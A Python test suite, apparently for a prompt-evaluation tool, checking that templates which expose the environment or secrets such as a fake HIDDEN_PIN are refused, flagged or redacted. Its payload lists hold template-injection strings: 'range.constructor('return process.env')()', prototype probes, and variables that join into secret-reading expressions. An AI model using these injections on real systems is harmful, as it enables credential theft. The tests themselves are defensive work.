"""Templates that want more of the environment than the variables that a suite writes out."""

from __future__ import annotations

import json
import sys
from typing import Any

import pytest

from support.running.processes import suitecase
from support.running.site import Ran, Site

SECRET = "plain-secret-4711"
ENVIRON = {"HIDDEN_PIN": SECRET, "REGION": "north", "PROMPTFOO_PYTHON": sys.executable}
#: Templates that stand for the whole environment, or for a variable that is named nowhere.
WHOLE = [
    "{{ env | dump }}",
    "{{ env }}",
    "{{env|safe}}",
    "{{ (env) | dump }}",
    "{{ [env] | dump }}",
    '{{ {"a": env} | dump }}',
    "{{ env | dictsort }}",
    "{{ env | list | join }}",
    "{{ env[name] }}",
    "{{ env['HIDDEN' ~ '_PIN'] }}",
    "{{ (env)['HIDDEN_PIN'] }}",
    "{{ env if true else 1 }}",
    "{{ (env or 1) | dump }}",
    "{{ range(1) | join(env | dump) }}",
    "{{ 1 if env | dump | length > 10 else 0 }}",
    "{% for key, value in env %}{{ key }}={{ value }}{% endfor %}",
    "{% for key in env %}{{ key }}{% endfor %}",
    "{% set e = env %}{{ e | dump }}",
    "{% set env = env %}{{ env | dump }}",
    "{% if true %}{% set e = env %}{{ e | dump }}{% endif %}",
    "{% if false %}{% set env = 1 %}{% endif %}{{ env | dump }}",
    "{% filter replace('x', env | dump) %}x{% endfilter %}",
    "{% switch env %}{% case 1 %}{% default %}{{ env | dump }}{% endswitch %}",
    "{% set e %}{{ env | dump }}{% endset %}{{ e }}",
    "{% macro m(e) %}{{ e | dump }}{% endmacro %}{{ m(env) }}",
    "{% call m(env) %}{% endcall %}",
    "{%- for k, v in env -%}{{ v }}{%- endfor -%}",
]
IN_OTHER_WAYS = [
    "{{ env.constructor }}",
    "{{ env.__proto__ }}",
    "{{ env['constructor']['prototype'] | dump }}",
    "{{ env.toString() }}",
    "{{ env.valueOf() | dump }}",
    "{{ self | dump }}{{ caller }}{{ this }}",
    "{{ range.constructor('return process.env')() }}",
    "{{ process.env | dump }}{{ global | dump }}{{ globals | dump }}",
    "{{ [].constructor }}",
    "{{ '{{ env.HIDDEN_PIN | dump' + '}}' }}",
]


def configuration(**rest: Any) -> str:
    return json.dumps(
        {
            "prompts": ["{{x}}"],
            "providers": ["echo"],
            "defaultTest": {"assert": [{"type": "contains", "value": "no such answer"}]},
            "tests": [{"vars": {"x": "hello", "name": "HIDDEN_PIN"}}],
            **rest,
        }
    )


def run(site: Site, text: str) -> Ran:
    site.write("promptfooconfig.json", text)
    return site.run("promptfooconfig.json", "--no-results", "--format", "jsonl", env=ENVIRON)


def checked(site: Site) -> str:
    return suitecase("check", ".", "--format", "concise", cwd=site.root, env=ENVIRON).stdout


def in_place(place: str, template: str) -> str:
    """Return a configuration with a template in one of the places that have templates."""
    match place:
        case "prompt":
            return configuration(prompts=[template])
        case "chat":
            return configuration(prompts=[json.dumps([{"role": "user", "content": template}])])
        case "variable":
            return configuration(tests=[{"vars": {"x": template, "name": "HIDDEN_PIN"}}])
        case "assertion":
            asserted = {"type": "icontains", "value": template}
            return configuration(tests=[{"vars": {"x": "y", "name": "a"}, "assert": [asserted]}])
        case "default":
            return configuration(
                defaultTest={"vars": {"x": template}, "assert": [{"type": "is-json"}]},
                tests=[{"vars": {"name": "HIDDEN_PIN"}}],
            )
        case _:
            return configuration(env={"OWN": template})


@pytest.mark.parametrize("template", WHOLE)
def test_the_whole_environment_is_refused_at_its_place(site: Site, template: str) -> None:
    ran = run(site, configuration(tests=[{"vars": {"x": template, "name": "HIDDEN_PIN"}}]))
    assert SECRET not in ran.out + ran.err
    assert ran.code in (2, 3), ran.out
    found = checked(site)
    assert "error[PF414] `env` stands for the whole environment" in found, found


@pytest.mark.parametrize("place", ["prompt", "chat", "variable", "assertion", "default", "env"])
def test_it_is_refused_wherever_it_stands(site: Site, place: str) -> None:
    ran = run(site, in_place(place, "{{ env | dump }}"))
    assert SECRET not in ran.out + ran.err
    assert ran.code in (2, 3), ran.out
    assert "error[PF414]" in checked(site)


@pytest.mark.parametrize("template", IN_OTHER_WAYS)
@pytest.mark.parametrize("place", ["prompt", "variable", "assertion"])
def test_no_other_way_leads_to_it(site: Site, template: str, place: str) -> None:
    ran = run(site, in_place(place, template))
    assert SECRET not in ran.out + ran.err


@pytest.mark.parametrize("template", ["{{ env.REGION }}", "{{ env['REGION'] | upper | lower }}"])
def test_variables_that_are_written_out_have_values(site: Site, template: str) -> None:
    ran = run(site, configuration(tests=[{"vars": {"x": template}}]))
    (record,) = ran.records.values()
    assert record["candidate_answer"] == "north"
    assert "PF414" not in checked(site)


def test_a_variable_of_a_test_may_have_the_name(site: Site) -> None:
    text = configuration(
        prompts=["{{ env }}: {% for env in all %}{{ env }} {% endfor %}"],
        tests=[{"vars": {"env": "staging", "all": "ab"}}],
    )
    (record,) = run(site, text).records.values()
    assert record["candidate_answer"].startswith("staging: a b")
    assert "PF414" not in checked(site)


@pytest.mark.parametrize("kept", ["{% raw %}X{% endraw %}", "{%- raw -%}X{% endraw %}", "{# X #}"])
@pytest.mark.parametrize("place", ["prompt", "variable", "assertion", "default"])
def test_it_is_found_where_a_template_is_kept(site: Site, place: str, kept: str) -> None:
    ran = run(site, in_place(place, kept.replace("X", "{{ env | dump }}")))
    assert SECRET not in ran.out + ran.err
    assert "error[PF414]" in checked(site)
    run(site, in_place(place, kept.replace("X", "{{ env.HIDDEN_PIN }}")))
    assert "info[PF416] the value of `HIDDEN_PIN`" in checked(site)


@pytest.mark.parametrize("name", [r"\x65nv", r"\u0065nv"])
@pytest.mark.parametrize(
    ("file", "content", "named"),
    [
        ("promptfooconfig.yaml", "", {}),
        ("tests.yaml", '- vars: {x: "X"}', {"tests": "file://tests.yaml"}),
        ("vars.yaml", 'x: "X"', {"tests": [{"vars": "vars.yaml"}]}),
        ("x.yaml", 'look: "X"', {"tests": [{"vars": {"x": "file://x.yaml"}}]}),
        (
            "default.yaml",
            '{vars: {x: "X"}, assert: [{type: is-json}]}',
            {"defaultTest": "file://default.yaml", "tests": [{"vars": {"y": "z"}}]},
        ),
    ],
)
def test_its_name_may_have_an_escape(
    site: Site, file: str, content: str, named: dict[str, Any], name: str
) -> None:
    template = f"{{{{ {name}.HIDDEN_PIN }}}}"
    rest = named or {"tests": [{"vars": {"x": template}}]}
    # JSON is YAML; undo its escaping of the backslash.
    text = configuration(**rest).replace("\\\\", "\\")
    if file != "promptfooconfig.yaml":
        site.write(file, content.replace("X", template))
    site.write("promptfooconfig.yaml", text)
    ran = site.run("promptfooconfig.yaml", "--no-results", "--format", "jsonl", env=ENVIRON)
    assert SECRET in ran.out
    found = checked(site)
    assert f"{file}:1:" in found
    assert "info[PF416] the value of `HIDDEN_PIN`" in found


def test_files_of_tests_and_prompts_are_looked_at(site: Site) -> None:
    site.write("tests.csv", "x,y\n{{ env | dump }},b\n")
    site.write("more.yaml", "- vars: {x: '{{ env }}'}\n")
    site.write("prompt.txt", "{{x}} {{ env }}")
    for named in ("tests.csv", "more.yaml"):
        ran = run(site, configuration(prompts=["file://prompt.txt"], tests=f"file://{named}"))
        assert SECRET not in ran.out + ran.err
        found = checked(site)
        assert f"{named}:" in found, found
        assert "prompt.txt:1:" in found, found


@pytest.mark.parametrize("template", ["{{ env.HIDDEN_PIN }}", "{{ env | dump }}"])
def test_a_function_that_makes_a_prompt_chooses_no_variables(site: Site, template: str) -> None:
    site.write("prompts.py", f"def ask(context):\n    return {template!r}\n")
    ran = run(site, configuration(prompts=["file://prompts.py:ask"], env={"OWN": "own"}))
    assert SECRET not in ran.out + ran.err
    (record,) = ran.records.values()
    assert record["error"].startswith("the prompt that its function returned: ")


def test_a_function_has_the_variables_that_the_suite_sets(site: Site) -> None:
    site.write("prompts.py", "def ask(context):\n    return '{{ env.OWN }} {{x}}'\n")
    text = configuration(
        prompts=["file://prompts.py:ask"],
        env={"OWN": "own"},
        tests=[{"vars": {"x": "{{ env.REGION }}"}}],
    )
    (record,) = run(site, text).records.values()
    assert record["candidate_answer"] == "own north"


def test_check_and_dry_runs_say_what_leaves_the_machine(site: Site) -> None:
    environ = {**ENVIRON, "WIKI_TOKEN": "wiki-token-0815", "OPENAI_API_KEY": "sk-0123456789abc"}
    site.write(
        "promptfooconfig.json",
        configuration(
            prompts=["{{x}} {{ env.REGION }}"],
            providers=[
                {
                    "id": "https://api.example.com/v1?password=1&key=1",
                    "label": "api",
                    "config": {
                        "body": "{{prompt}}",
                        "headers": {"authorization": "Bearer {{ env.WIKI_TOKEN }}"},
                        "transformResponse": "json.a",
                    },
                },
                "openai:gpt-4.1-mini",
                f"exec: {sys.executable} answer.py",
            ],
            tests=[{"vars": {"x": "{{ env.HIDDEN_PIN }} {{ env.WIKI_TOKEN }}"}}],
        ),
    )
    found = checked(site)
    assert "info[PF416] the value of `WIKI_TOKEN` is sent to `api.example.com`" in found
    assert "info[PF416] the value of `REGION` is sent to `api.example.com`, `openai:gpt" in found
    assert "warning[PF415] `WIKI_TOKEN` is a secret by its name" in found
    dry = site.run("promptfooconfig.json", "--dry-run", "--format", "json", env=environ)
    text = dry.out + dry.err + found
    for value in (SECRET, "wiki-token-0815", "sk-0123456789abc", "password=1", "key=1"):
        assert value not in text, value
    assert '"whole_environment": true' in dry.out
    shown = site.run("promptfooconfig.json", "--dry-run", env=environ).out
    assert (
        "sends `WIKI_TOKEN`, `REGION`, `HIDDEN_PIN` of the environment to `api` (http, api.example.com)"
        in shown
    )
    assert (
        "sends `OPENAI_API_KEY`, `REGION`, `HIDDEN_PIN`, `WIKI_TOKEN` of the environment to `openai:gpt-4.1-mini`"
        in shown
    )
    assert "gives the whole environment to the program of `exec: " in shown


def test_our_own_targets_are_listed_too(site: Site) -> None:
    site.write(
        "targets.yaml",
        """
        targets:
          - {name: bot, provider: cli, command_template: "cat {PROMPT_FILE}"}
          - {name: judge, provider: openai, model: gpt-4.1, api_base: "https://proxy.example.com/v1", api_key: "${{ WIKI_TOKEN }}"}
        """,
    )
    site.suite(
        "- {id: a, input: hi, expected_outcome: x, evaluators: [{name: j, type: llm_judge, target: judge}]}",
        head="execution: {target: bot}",
    )
    environ = {"WIKI_TOKEN": "wiki-token-0815"}
    shown = site.run("a.eval.yaml", "--dry-run", env=environ).out
    assert (
        "gives the whole environment to the program of `bot` (cli), which has the network" in shown
    )
    assert "sends `WIKI_TOKEN` of the environment to `judge` (openai, proxy.example.com)" in shown
    assert "wiki-token-0815" not in shown


@pytest.mark.parametrize(
    ("named", "content", "variables"),
    [
        ("x.txt", "look: {{ env | dump }}", {"x": "file://x.txt"}),
        ("x.json", '{"a": "{{ env }}"}', {"x": "file://x.json"}),
        ("x.yaml", "a: '{{ env | dictsort }}'\n", {"x": "file://x.yaml"}),
        ("x.txt", "look: {{ env | dump }}", {"x": ["file://x.txt", "b"]}),
        ("x.txt", "look: {{ env | dump }}", {"x": "file://*.txt"}),
        ("x.yaml", "x: '{{ env | dump }}'\n", "x.yaml"),
    ],
)
def test_what_is_refused_in_a_file_of_variables_is_found_there(
    site: Site, named: str, content: str, variables: Any
) -> None:
    site.write(named, content)
    text = configuration(tests=[{"vars": variables}])
    ran = run(site, text)
    assert ran.code == 2
    assert SECRET not in ran.out + ran.err
    assert f"{named}:1:" in checked(site)
    assert "error[PF414]" in checked(site)


def test_files_that_are_named_for_all_tests_are_looked_at(site: Site) -> None:
    site.write("all.yaml", "vars: {x: '{{ env | dump }}'}\n")
    site.write("rubric.txt", "Grade {{ output }} by {{ rubric }}: {{ env | dump }}")
    asserted = {"type": "llm-rubric", "value": "good", "rubricPrompt": "file://rubric.txt"}
    text = configuration(
        defaultTest="file://all.yaml", tests=[{"vars": {"name": "a"}, "assert": [asserted]}]
    )
    assert run(site, text).code == 2
    found = checked(site)
    assert "all.yaml:1:" in found, found
    assert "rubric.txt:1:" in found, found


def test_what_a_file_of_a_variable_sends_is_listed(site: Site) -> None:
    site.write("x.txt", "signed {{ env.WIKI_TOKEN }} in {{ env.REGION }}")
    text = configuration(tests=[{"vars": {"x": "file://x.txt"}}])
    (record,) = run(site, text).records.values()
    assert record["candidate_answer"].endswith("in north")
    found = checked(site)
    assert "x.txt:1:" in found
    assert "warning[PF415] `WIKI_TOKEN`" in found
    assert "info[PF416] the value of `REGION`" in found
    text = configuration(providers=["openai:gpt-4.1-mini"], tests=[{"vars": {"x": "file://x.txt"}}])
    site.write("promptfooconfig.json", text)
    environ = {**ENVIRON, "WIKI_TOKEN": "wiki-token-0815"}
    dry = site.run("promptfooconfig.json", "--dry-run", env=environ).out
    assert "`WIKI_TOKEN`, `REGION` of the environment to `openai:gpt-4.1-mini`" in dry


@pytest.mark.parametrize(
    ("content", "prompts"),
    [
        ("In nunjucks, {{ env | dump }} and {{ unknown }} show values", ["{{x}}"]),
        ("an open tag {{ env\nleaves {{ env | dump }} as it is", ["{{x}}"]),
        ("{{ env | dump }}", ['[{"role": "user", "content": "{{x}}"}]']),
    ],
)
def test_what_is_left_as_it_is_in_a_file_is_no_error(
    site: Site, content: str, prompts: list[str]
) -> None:
    site.write("x.txt", content)
    ran = run(site, configuration(prompts=prompts, tests=[{"vars": {"x": "file://x.txt"}}]))
    (record,) = ran.records.values()
    assert "env" in record["candidate_answer"]
    assert SECRET not in ran.out
    assert "PF414" not in checked(site)


def test_a_variable_of_the_name_may_come_from_a_file(site: Site) -> None:
    site.write("x.yaml", "env: staging\n")
    text = configuration(prompts=["in {{ env }}"], tests=[{"vars": "x.yaml"}])
    (record,) = run(site, text).records.values()
    assert record["candidate_answer"] == "in staging"
    assert "PF414" not in checked(site)


def test_a_variable_of_one_test_silences_nothing_of_others(site: Site) -> None:
    text = configuration(
        prompts=["{{x}} {{ env.REGION }}"],
        tests=[
            {"vars": {"env": "staging", "x": "a"}},
            {"vars": {"x": "{{ env | dump }} {{ env.WIKI_TOKEN }}"}},
        ],
    )
    ran = run(site, text)
    assert ran.code == 2
    found = checked(site)
    assert "error[PF414]" in found
    assert "warning[PF415] `WIKI_TOKEN`" in found
    assert "info[PF416] the value of `REGION`" in found


#: Variables that put together a use of the environment which none of them has, by what they do.
COMPOSED: dict[str, dict[str, Any]] = {
    "braces of another": {"x": "{{a}}nv.HIDDEN_PIN }}", "a": "{{ e"},
    "the path": {"x": "{{ {{e}}.{{n}} }}", "n": "HIDDEN_PIN", "e": "env"},
    "the use": {"x": "{{ {{e}} }}", "e": "env.HIDDEN_PIN"},
    "the name": {"x": "{{ env.{{n}} }}", "n": "HIDDEN_PIN"},
    "an item of a list": {"x": "{{a}}nv.HIDDEN_PIN }}", "a": ["b", "{{ e"]},
    "a brace each": {"x": "{{a}}{ env.HIDDEN_PIN }{{b}}", "a": "{", "b": "}"},
    "what comes before": {"x": "nv.HIDDEN_PIN }}{{a}}", "a": "{{ e$`"},
    "the end of a raw part": {
        "x": "{% raw %}{{a}}{{ env.HIDDEN_PIN }}{% raw %}{% endraw %}",
        "a": "{% endraw %}",
    },
    "a second round": {"x": "{{a}}nv.HIDDEN_PIN }}", "a": "{{b}} e", "b": "{{"},
    "the whole": {"x": "{{a}}nv | dump }}", "a": "{{ e"},
    "one beside it": {"x": "{{ env.REGION }} {{a}}nv.HIDDEN_PIN }}", "a": "{{ e"},
}


@pytest.mark.parametrize("given", COMPOSED.values(), ids=COMPOSED)
def test_a_use_that_variables_put_together_is_refused(site: Site, given: dict[str, Any]) -> None:
    ran = run(site, configuration(tests=[{"vars": given}]))
    assert SECRET not in ran.out + ran.err
    assert ran.code == 2, ran.out
    assert "is put together from several texts" in ran.err
    found = checked(site)
    assert "error[PF414] `env" in found, found


def test_it_is_refused_in_tests_of_other_files_and_of_the_default(site: Site) -> None:
    site.write("tests.csv", "x,a\n{{a}}nv.HIDDEN_PIN }},{{ e\n")
    for text in (
        configuration(tests="file://tests.csv"),
        configuration(
            defaultTest={"vars": {"x": "{{a}}nv.HIDDEN_PIN }}"}}, tests=[{"vars": {"a": "{{ e"}}]
        ),
        configuration(defaultTest={"vars": COMPOSED["the use"]}, tests=[]),
        configuration(
            prompts=["nv.HIDDEN_PIN }} {{x}}"], defaultTest={"options": {"prefix": "{{ e"}}
        ),
        configuration(env={"E": "{{ e"}, tests=[{"vars": {"x": "{{ env.E }}nv.HIDDEN_PIN }}"}}]),
    ):
        ran = run(site, text)
        assert SECRET not in ran.out + ran.err, text
        assert "is put together from several texts" in ran.err, text
        assert "error[PF414] `env.HIDDEN_PIN` is put together" in checked(site), text


def test_a_setting_of_a_provider_puts_no_use_together(site: Site) -> None:
    text = configuration(
        env={"E": "{{ e"},
        providers=[
            {
                "id": "http://127.0.0.1:9",
                "config": {
                    "method": "POST",
                    "body": {"a": "{{ env.E }}nv.HIDDEN_PIN }} {{prompt}}"},
                    "headers": {"b": "{{ env.E }}nv.HIDDEN_PIN }}"},
                    "transformResponse": "json.a",
                },
            }
        ],
    )
    ran = run(site, text)
    assert ran.code == 2
    assert "is put together from several texts" in ran.err


def test_suites_of_agentv_put_no_use_together(site: Site) -> None:
    site.write(".agentv/providers.yaml", "providers: [{id: mock, label: llm, response: hello}]")
    site.write(
        "a.eval.yaml",
        """
        name: greetings
        providers: [llm]
        prompts: ["hello {{ input }}"]
        tests:
          - id: one
            vars: {input: "{{a}}nv.HIDDEN_PIN }}", a: "{{ e"}
            assert: [{type: contains, value: hello}]
          - id: two
            vars: {input: "{{ {{e}}.{{n}} }}", e: env, n: HIDDEN_PIN}
            assert: [{type: contains, value: hello}]
        """,
    )
    ran = site.run("a.eval.yaml", "--no-results", "--format", "jsonl", env=ENVIRON)
    assert ran.code == 2
    assert SECRET not in ran.out + ran.err
    assert checked(site).count("error[PF414] `env.HIDDEN_PIN` is put together") == 2


@pytest.mark.parametrize(
    ("given", "answer"),
    [
        ({"x": "{{y}} in {{ env.REGION }}", "y": "here"}, "here in north"),
        ({"x": "{{y}}, {{y}}", "y": "{{ env.REGION | upper }}"}, "NORTH, NORTH"),
        ({"x": "{{y}}", "y": ["{{ env.REGION }}"]}, "north"),
        ({"x": "{{y}} {{ env.REGION | upper }}", "y": "{"}, "{ NORTH"),
    ],
)
def test_texts_that_are_joined_keep_what_each_writes_out(
    site: Site, given: dict[str, Any], answer: str
) -> None:
    (record,) = run(site, configuration(tests=[{"vars": given}])).records.values()
    assert record["candidate_answer"] == answer
    assert "PF414" not in checked(site)


def test_check_warns_of_a_secret_by_any_word_of_its_name(site: Site) -> None:
    template = (
        "{{ env.TOKEN }} {{ env.SECRET_KEY_BASE }} {{ env.API_KEY_PROD }} {{ env.MAX_TOKENS }}"
    )
    site.write("promptfooconfig.json", configuration(tests=[{"vars": {"x": template}}]))
    found = checked(site)
    for name in ("TOKEN", "SECRET_KEY_BASE", "API_KEY_PROD"):
        assert f"warning[PF415] `{name}`" in found
    assert "warning[PF415] `MAX_TOKENS`" not in found


@pytest.mark.parametrize(
    "test",
    [
        {"assert": [{"type": "{{env.MY_TOKEN}}", "value": 1}]},
        {"assert": [{"type": "contains", "value": "file://{{env.MY_TOKEN}}.txt"}]},
        {"assert": [{"type": "contains", "value": "a", "weight": "{{env.MY_TOKEN}}"}]},
        {"assert": [{"type": "llm-rubric", "value": "a", "provider": "foo:{{env.MY_TOKEN}}"}]},
        {
            "assert": [
                {
                    "type": "llm-rubric",
                    "value": "a",
                    "provider": "openai:gpt-4.1",
                    "rubricPrompt": "file://{{env.MY_TOKEN}}.txt",
                }
            ]
        },
        {
            "vars": {"q": "file://{{env.MY_TOKEN}}.txt"},
            "assert": [{"type": "contains", "value": 1}],
        },
        {"assert": [{"type": "contains", "value": "a", "threshold": "{{env.MY_TOKEN}}"}]},
    ],
    ids=["type", "value", "weight", "grader", "prompt of a grader", "variable", "threshold"],
)
@pytest.mark.parametrize("options", [[], ["--dry-run"], ["--format", "json"]], ids=" ".join)
def test_no_message_about_what_cannot_be_run_has_a_secret(
    site: Site, test: dict[str, Any], options: list[str]
) -> None:
    configuration = {
        "prompts": ["ask {{q}}"],
        "providers": ["echo"],
        "tests": [{"vars": {"q": "a"}, **test}],
    }
    site.write("promptfooconfig.yaml", json.dumps(configuration))
    ran = site.run("promptfooconfig.yaml", *options, env={"MY_TOKEN": SECRET})
    assert ran.code != 0
    assert SECRET not in ran.out + ran.err
    assert "[redacted]" in ran.out + ran.err


def said(site: Site, files: dict[str, str], name: str = "HIDDEN_PIN") -> tuple[str, str]:
    """Return what `check` and a dry run say of a variable, in the files of a workspace."""
    for path, content in files.items():
        site.write(path, content)
    found = checked(site)
    dry = site.run("promptfooconfig.json", "--dry-run", env={**ENVIRON, "OPENAI_API_KEY": "sk-1"})
    assert SECRET not in found + dry.out + dry.err
    marked = f"`{name}`"
    return (
        "\n".join(line for line in found.splitlines() if "PF41" in line and marked in line),
        "\n".join(line for line in dry.out.splitlines() if " sends " in line and marked in line),
    )


#: Files whose text is filled in as the value of a variable, with what is rendered only at a second look.
RENDERED_IN_FILES: dict[str, tuple[str, str]] = {
    "a key": ("x.yaml", '"{{ env.HIDDEN_PIN }}": 1\n'),
    "a key within": ("x.yml", 'a: [{"{{ env.HIDDEN_PIN }}": 1}]\n'),
    "two values": ("x.yaml", 'a: "{{ \'"\nb: "\' ~ env.HIDDEN_PIN }}"\n'),
    "a key and a value": ("x.yaml", '"{{ \'": 1\na: "\' ~ env.HIDDEN_PIN }}"\n'),
    "an expression with an unknown name": ("x.txt", "{{ 1 or unknown }}{{ env.HIDDEN_PIN }}"),
    "a list with an unknown name": ("x.txt", "{{ [unknown] }}{{ env.HIDDEN_PIN }}"),
}


@pytest.mark.parametrize(
    ("named", "content"), RENDERED_IN_FILES.values(), ids=RENDERED_IN_FILES.keys()
)
def test_what_leaves_with_a_file_of_a_variable_is_what_is_rendered(
    site: Site, named: str, content: str
) -> None:
    text = configuration(
        prompts=["say {{x}}"],
        providers=["openai:gpt-4.1-mini"],
        tests=[{"vars": {"x": f"file://{named}"}}],
    )
    found, dry = said(site, {"promptfooconfig.json": text, named: content})
    assert f"{named}:1:" in found
    assert "PF416" in found
    assert "to `openai:gpt-4.1-mini`" in dry


#: Other texts that are filled in although something speaks against it.
RENDERED_ALL_THE_SAME: dict[str, tuple[dict[str, Any], dict[str, str]]] = {
    "a value beside a variable `env`": (
        {"tests": [{"vars": {"env": "staging", "x": "{{ env.HIDDEN_PIN }}"}}]},
        {},
    ),
    "templates are switched off": (
        {"prompts": ["{{ env.HIDDEN_PIN }}"], "env": {"PROMPTFOO_DISABLE_TEMPLATING": "true"}},
        {},
    ),
    "two messages of a chat": (
        {"prompts": ["file://chat.json"]},
        {
            "chat.json": """[{"role": "user", "content": "{{ '"}, {"role": "user", "content": "' ~ env.HIDDEN_PIN }}"}]"""
        },
    ),
    "a file that a table names": (
        {"tests": "file://tests.csv"},
        {"tests.csv": "x\nfile://x.txt\n", "x.txt": "{{ env.HIDDEN_PIN }}"},
    ),
    "a file that a file of variables names": (
        {"tests": [{"vars": "v.yaml"}]},
        {"v.yaml": "x: file://x.txt\n", "x.txt": "{{ env.HIDDEN_PIN }}"},
    ),
    "a file that the default in a file names": (
        {"defaultTest": "file://all.yaml", "tests": [{"vars": {"y": "z"}}]},
        {
            "all.yaml": "{vars: {x: 'file://x.txt'}, assert: [{type: is-json}]}",
            "x.txt": "{{ env.HIDDEN_PIN }}",
        },
    ),
    "a chat that parses a value": (
        {
            "prompts": ['[{"role": "user", "content": "{{ x | load }}"}]'],
            "tests": [{"vars": {"x": "file://x.txt"}}],
        },
        {"x.txt": "{{ env.HIDDEN_PIN | dump }}"},
    ),
}


@pytest.mark.parametrize(
    ("written", "files"), RENDERED_ALL_THE_SAME.values(), ids=RENDERED_ALL_THE_SAME.keys()
)
def test_what_leaves_with_other_texts_is_what_is_rendered(
    site: Site, written: dict[str, Any], files: dict[str, str]
) -> None:
    written = {"prompts": ["say {{x}}"], "providers": ["openai:gpt-4.1-mini"], **written}
    text = configuration(**written)
    found, dry = said(site, {"promptfooconfig.json": text, **files})
    assert "PF416" in found
    assert "to `openai:gpt-4.1-mini`" in dry


HERE = "http://127.0.0.1:8399"
PARSED: dict[str, Any] = {"transformResponse": "json.a"}
JSON: dict[str, Any] = {"method": "POST", "headers": {"content-type": "application/json"}, **PARSED}
RAW = (
    "POST /x HTTP/1.1\nHost: 127.0.0.1:8399\nContent-Type: application/json\n"
    'X: {{ env.HIDDEN_PIN }}\n\n{"a": "{{prompt}}"}\n'
)


def api(more: dict[str, Any] | None = None, **config: Any) -> dict[str, Any]:
    return {"providers": [{"id": HERE, "config": config}], **(more or {})}


def model(more: dict[str, Any] | None = None, **config: Any) -> dict[str, Any]:
    return {"providers": [{"id": "openai:gpt-4.1-mini", "config": config}], **(more or {})}


GRADER: dict[str, Any] = {
    "id": "openai:gpt-4.1-mini",
    "config": {"apiBaseUrl": f"{HERE}/v1", "headers": "file://h.json"},
}
GRADED: dict[str, Any] = {"type": "llm-rubric", "value": "is short", "provider": GRADER}


@pytest.mark.parametrize(
    ("changed", "recipients"),
    [
        ({"tests": [{"vars": {"x": "{{ env.REGION }}"}}]}, "`openai:gpt-4.1`"),
        ({"tests": [{"vars": {"x": "a", "assert": "{{ env.REGION }}"}}]}, "`openai:gpt-4.1`"),
        (
            {"tests": [{"vars": {"x": "a"}, "options": {"suffix": "{{ env.REGION }}"}}]},
            "`openai:gpt-4.1`",
        ),
        (
            {"tests": [{"assert": [{"type": "llm-rubric", "value": "In {{ env.REGION }}"}]}]},
            "graders",
        ),
        ({"tests": [{"options": {"rubricPrompt": "{{ env.REGION }}"}}]}, "graders"),
        ({"defaultTest": {"assert": [{"type": "equals", "value": "{{ env.REGION }}"}]}}, "graders"),
        ({"tests": "file://tests.csv"}, "graders"),
    ],
)
def test_who_gets_a_text_is_said(site: Site, changed: dict[str, Any], recipients: str) -> None:
    site.write("promptfooconfig.json", configuration(providers=["openai:gpt-4.1"], **changed))
    site.write("tests.csv", "x,__expected\na,llm-rubric: In {{ env.REGION }}\n")
    sent = [line.split("PF416] ")[1] for line in checked(site).splitlines() if "PF416" in line]
    assert sent == [f"the value of `REGION` is sent to {recipients}"]


#: Settings with which the variable is sent to this address: what is written, and files.
IN_SETTINGS: dict[str, tuple[dict[str, Any], dict[str, str]]] = {
    "a body in a file": (
        api(**JSON, body="file://b.txt"),
        {"b.txt": "{{ env.HIDDEN_PIN }}{{prompt}}"},
    ),
    "a raw request in a file": (api(**PARSED, request="file://r.txt"), {"r.txt": RAW}),
    "a raw request": (api(**PARSED, request=RAW), {}),
    "a query": (
        api(**JSON, body={"a": "b"}, queryParams={"q": "{{prompt}}{{ env.HIDDEN_PIN }}"}),
        {},
    ),
    "a filter": (
        api(
            **PARSED,
            method="POST",
            body="{{prompt}}",
            headers={"x": "{{ env.HIDDEN_PIN | upper }}"},
        ),
        {},
    ),
    "a variable of the configuration": (
        api(
            {"env": {"OWN": "{{ env.HIDDEN_PIN }}"}},
            **{**JSON, "headers": {"content-type": "application/json", "x": "{{ env.OWN }}"}},
            body={"a": "{{prompt}}"},
        ),
        {},
    ),
    "such a variable in a row": (
        api(
            {"env": {"OWN": "{{ env.HIDDEN_PIN }}"}},
            **JSON,
            body={"a": "{{prompt}} {{ env.OWN }}"},
        ),
        {},
    ),
    "headers in a file": (
        api(**PARSED, method="POST", body={"a": "{{prompt}}"}, headers="file://h.yaml"),
        {"h.yaml": "content-type: application/json\nx: '{{ env.HIDDEN_PIN }}'\n"},
    ),
    "a file that names a file": (
        api(**PARSED, method="POST", body="{{prompt}}", headers="file://h.yaml"),
        {"h.yaml": "x: file://x.txt\n", "x.txt": "{{ env.HIDDEN_PIN }}"},
    ),
    "settings beside tests that all have a variable `env`": (
        api(
            {"tests": [{"vars": {"env": "staging", "x": "a"}}]},
            **PARSED,
            method="POST",
            body="{{prompt}}",
            headers={"x": "{{ env.HIDDEN_PIN }}"},
        ),
        {},
    ),
    "providers in a file": (
        {"providers": ["file://providers.yaml"]},
        {
            "providers.yaml": f"- id: {HERE}\n  config: {{request: file://r.txt, transformResponse: json.a}}\n",
            "r.txt": RAW,
        },
    ),
    "a schema in a file": (
        model(apiBaseUrl=f"{HERE}/v1", response_format="file://rf.json"),
        {"rf.json": '{"type": "{{ env.HIDDEN_PIN }}"}'},
    ),
    "the address in a variable": (
        model(
            {"env": {"OPENAI_BASE_URL": f"{HERE}/v1"}}, passthrough={"a": "{{ env.HIDDEN_PIN }}"}
        ),
        {},
    ),
    "the variable in the address": (
        model({"env": {"OPENAI_BASE_URL": f"{HERE}/{{{{ env.HIDDEN_PIN }}}}"}}),
        {},
    ),
    "a name of the key": (model(apiBaseUrl=f"{HERE}/v1", apiKeyEnvar="HIDDEN_PIN"), {}),
    "a variable with the key": (
        model({"env": {"OPENAI_API_KEY": "{{ env.HIDDEN_PIN }}"}}, apiBaseUrl=f"{HERE}/v1"),
        {},
    ),
    "the grader of all tests": (
        {
            "providers": ["echo"],
            "defaultTest": {
                "options": {"provider": {"text": GRADER}},
                "assert": [{"type": "llm-rubric", "value": "is short"}],
            },
        },
        {"h.json": '{"x": "{{ env.HIDDEN_PIN }}"}'},
    ),
    "the grader of an assertion in a set": (
        {
            "providers": ["echo"],
            "tests": [{"vars": {"x": "y"}, "assert": [{"type": "assert-set", "assert": [GRADED]}]}],
        },
        {"h.json": '{"x": "{{ env.HIDDEN_PIN }}"}'},
    ),
    "the provider of a test in another file": (
        {"providers": ["echo", "openai:gpt-4.1-mini"], "tests": "file://tests.yaml"},
        {
            "tests.yaml": json.dumps([{"vars": {"x": "y"}, "provider": GRADER}]),
            "h.json": '{"x": "{{ env.HIDDEN_PIN }}"}',
        },
    ),
    "a key that is the address": (
        {
            "providers": [
                {f"{HERE}/{{{{ env.HIDDEN_PIN }}}}": {"config": {**JSON, "body": {"a": "b"}}}}
            ]
        },
        {},
    ),
}


